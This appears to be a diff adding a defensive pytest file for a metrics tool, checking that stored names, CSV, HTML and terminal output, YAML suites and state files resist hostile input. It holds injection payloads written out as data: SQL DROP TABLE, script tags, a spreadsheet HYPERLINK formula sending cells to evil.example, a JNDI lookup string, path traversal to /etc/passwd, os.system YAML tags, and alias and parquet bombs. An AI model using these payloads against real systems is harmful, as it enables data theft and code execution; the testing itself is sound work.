@@ -1,0 +1,222 @@
+"""One corpus of hostile text and bytes, tried on every entry point that needs no Spark."""
+
+import csv
+import hashlib
+import io
+import json
+from contextlib import suppress
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from tidegauge.analyzers.core.errors import StateError
+from tidegauge.analyzers.core.formatting import for_terminal
+from tidegauge.analyzers.core.registry import STATE_MODULES
+from tidegauge.analyzers.core.state import READERS, read_state
+from tidegauge.analyzers.measures.frequencies import FrequenciesAndNumRows
+from tidegauge.cli.main import run_command
+from tidegauge.cli.output import SafeTerminal
+from tidegauge.files.suite import load_suite
+from tidegauge.repository.maintenance.integrity import check
+from tidegauge.repository.store.artifacts import Payload
+from tidegauge.repository.testing.samples import commit, day, judged
+
+import tidegauge as tg
+from tests.paths import ROOT
+
+HOSTILE = {
+    "sql": "x'; DROP TABLE metric; --",
+    "sql like": "100%_\\",
+    "html": "<img src=x onerror=alert(1)></script><script>alert(2)</script>",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
+    "formula plus": "+cmd|' /C calc'!A0",
+    "formula at": "@SUM(1+1)",
+    "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31m",
+    "right to left": "\u202egnp.exe",
+    "log line": "ok\n2026-01-01 INFO all is well",
+    "format": "%s%n{0}{x.__class__}${jndi:ldap://evil.example/a}",
+    "path": "../../../../etc/passwd",
+    "null": "a\x00b",
+    "long": "x" * 900,
+    "quotes": "`'\"\\`",
+    "astral": "\U0001f4a5\u0301",
+}
+
+
+EVERY_DAY = {"sql", "html", "formula", "terminal", "null"}
+
+
+@pytest.fixture(
+    params=[
+        pytest.param(text, id=name, marks=() if name in EVERY_DAY else pytest.mark.soak)
+        for name, text in HOSTILE.items()
+    ]
+)
+def text(request):
+    return request.param
+
+
+def test_names_values_labels_and_tags_come_back_as_they_were(text, tmp_path, capsys):
+    """And in every output they are data: of CSV, JSON, HTML, Prometheus, the table on the screen."""
+    url = f"sqlite:///{tmp_path / 'r.db'}"
+    name = text.replace("\x00", "")
+    stored = text.replace("\x00", "\\x00")
+    with tg.Repository(url) as repository:
+        days = {"ds=2013-01-01": 10.0, "ds=2013-01-02": 10.0, "ds=2013-01-03": 99.0}
+        repository.record(name, text, days, instance=text, segment=f"s={text}")
+        repository.detect(name, [tg.Monitor({}, tg.SimpleThreshold(50))])
+        (anomaly,) = repository.anomalies(name)["id"]
+        repository.label(int(anomaly), "expected", note=text, by=text)
+        judged(repository, dataset=name, name=text, result=json.dumps({"x": text}))
+        frame = repository.metrics(name, name=stored, instance=stored, segment=f"s={stored}")
+        assert len(frame) == 3
+        assert repository.datasets() == [name]
+        assert repository.labels(name)["note"].tolist() == [stored]
+        assert check(repository.database, repository.artifacts) == []
+    page = tmp_path / "page.html"
+    for command in (
+        ["metrics", name, "--db", url, "--format", "csv"],
+        ["anomalies", "list", name, "--db", url],
+        ["report", name, "--db", url, "--html", str(page)],
+        ["metrics", name, "--db", url, "--format", "json"],
+    ):
+        assert run_command(command) == 0, command
+        said = capsys.readouterr()
+        assert said.err == ""
+        if "csv" in command:
+            rows = list(csv.DictReader(io.StringIO(said.out)))
+            assert len(rows) == 3
+            assert not [
+                cell for row in rows for cell in row.values() if cell.startswith(("=", "@", "\t"))
+            ]
+            assert not [cell for row in rows for cell in row.values() if cell.startswith("+cmd")]
+        if "json" in command:
+            assert {row["name"] for row in json.loads(said.out)} == {stored}
+    html = page.read_text()
+    assert "<img src=x" not in html
+    assert "<script>alert" not in html
+
+
+def test_errors_about_names_quote_them(text, repo):
+    commit(repo, day(1))
+    with pytest.raises(tg.TidegaugeError):
+        repo.metrics("d", name=text)
+    with pytest.raises(tg.TidegaugeError):
+        repo.metrics(text)
+    with pytest.raises(tg.TidegaugeError):
+        repo.metrics("d", since=text)
+    with pytest.raises(tg.TidegaugeError):
+        repo.forget(" ")
+
+
+def test_a_terminal_gets_no_control_characters():
+    screen = io.StringIO()
+    SafeTerminal(screen).write("".join(HOSTILE.values()) + "\x1b[1mbold\x1b[0m\n")
+    shown = screen.getvalue()
+    assert "\x1b]" not in shown
+    assert "\x1b[2J" not in shown
+    assert not {"\x07", "\x9b", "\u202e", "\x00"} & set(shown)
+    assert shown.endswith("\x1b[1mbold\x1b[0m\n")
+    assert for_terminal("plain \u00fc\ttext\n") == "plain \u00fc\ttext\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "!!python/object/apply:os.system ['touch {mark}']",
+        "dataset: d\npath: /t\nanalyzers: [!!python/object/apply:os.system ['touch {mark}']]",
+        "a: &a [x, x]\nb: &b [*a, *a]\ndataset: *b\n",
+        "dataset: d\n<<: *nothing\n",
+        "[" * 2000,
+        "dataset: d\npath: /t\nanalyzers: [\"__import__('os').system('touch {mark}')\"]",
+        "dataset: d\npath: /t\nanalyzers: [{{Size: {{__class__: x}}}}]",
+        "\x00",
+        "dataset: d\ndataset: e\npath: /t\nanalyzers: [Size]",
+    ],
+)
+def test_yaml_runs_nothing_and_is_refused(tmp_path, text):
+    mark = tmp_path / "mark"
+    file = tmp_path / "suite.yml"
+    file.write_text(text.replace("{mark}", str(mark)).replace("{{", "{").replace("}}", "}"))
+    with pytest.raises(tg.SuiteError):
+        load_suite(file)
+    assert not mark.exists()
+
+
+def test_aliases_of_aliases_do_not_explode(tmp_path):
+    """A billion laughs: nine levels of ten aliases each, in a field that takes texts."""
+    lines = ["a0: &a0 [" + ", ".join(["lol"] * 10) + "]"]
+    lines += [f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 10) + "]" for n in range(1, 10)]
+    file = tmp_path / "suite.yml"
+    file.write_text("\n".join([*lines, "dataset: d", "path: /t", "analyzers: [Size]"]))
+    with pytest.raises(tg.SuiteError, match="aliases"):
+        load_suite(file)
+
+
+# states
+
+
+def payload(content, **changed):
+    kept = {"tag": "frequencies/1", "payload": content, "artifact": None}
+    return Payload(**{**kept, "checksum": hashlib.sha256(content or b"").hexdigest(), **changed})
+
+
+@pytest.mark.parametrize("path", ["../secret.parquet", "/etc/passwd", "a/../../secret.parquet"])
+def test_states_lie_in_their_folder(tmp_path, path):
+    (tmp_path / "secret.parquet").write_bytes(b"x")
+    with tg.Repository(f"sqlite:///{tmp_path / 'r.db'}", artifacts=tmp_path / "large") as repo:
+        stored = payload(None, artifact=path, checksum=hashlib.sha256(b"x").hexdigest())
+        with pytest.raises(StateError, match="leads out of"):
+            repo.artifacts.unpack(stored)
+        with pytest.raises(StateError, match="leads out of"):
+            repo.artifacts.remove(path)
+    assert (tmp_path / "secret.parquet").exists()
+
+
+def test_a_small_file_that_would_fill_the_memory_is_refused():
+    """A thousand million equal rows are some kilobytes: no state of distinct values is like that."""
+    one = FrequenciesAndNumRows.of([(("a",), 1)])
+    schema = pq.read_schema(io.BytesIO(one.pack()))
+    sink = io.BytesIO()
+    block = pa.table({"0": ["a"] * 10**6, "count": [1] * 10**6}, schema=schema)
+    with pq.ParquetWriter(sink, schema, compression="zstd") as writer:
+        for _ in range(20):
+            writer.write_table(block)
+    bomb = sink.getvalue()
+    assert len(bomb) < 200_000
+    with pytest.raises(StateError, match="would take"):
+        read_state("frequencies/1", bomb)
+
+
+SAMPLES = [
+    (state["tag"], bytes.fromhex(state["payload"]))
+    for state in json.loads((ROOT / "tests/data/states.json").read_text())
+]
+
+
+def test_there_is_a_sample_of_every_kind_of_state():
+    _ = [module for module in STATE_MODULES if __import__(module)]
+    assert {tag.partition("/")[0] for tag, _ in SAMPLES} >= {
+        tag.partition("/")[0] for tag in READERS if "griffin" not in tag
+    }
+
+
+@given(st.sampled_from(SAMPLES), st.randoms(use_true_random=False), st.integers(1, 8))
+def test_damaged_states_raise_our_errors_alone(sample, draw, changes):
+    tag, content = sample
+    damaged = bytearray(content)
+    for _ in range(changes):
+        kind = draw.randrange(4)
+        at = draw.randrange(len(damaged) + 1)
+        if kind == 0 and at < len(damaged):
+            damaged[at] = draw.randrange(256)
+        elif kind == 1:
+            del damaged[at:]
+        elif kind == 2:
+            damaged[at:at] = draw.randbytes(draw.randrange(9))
+        else:
+            damaged[at : at + 8] = b"\xff" * 8
+    with suppress(StateError):
+        read_state(tag, bytes(damaged))
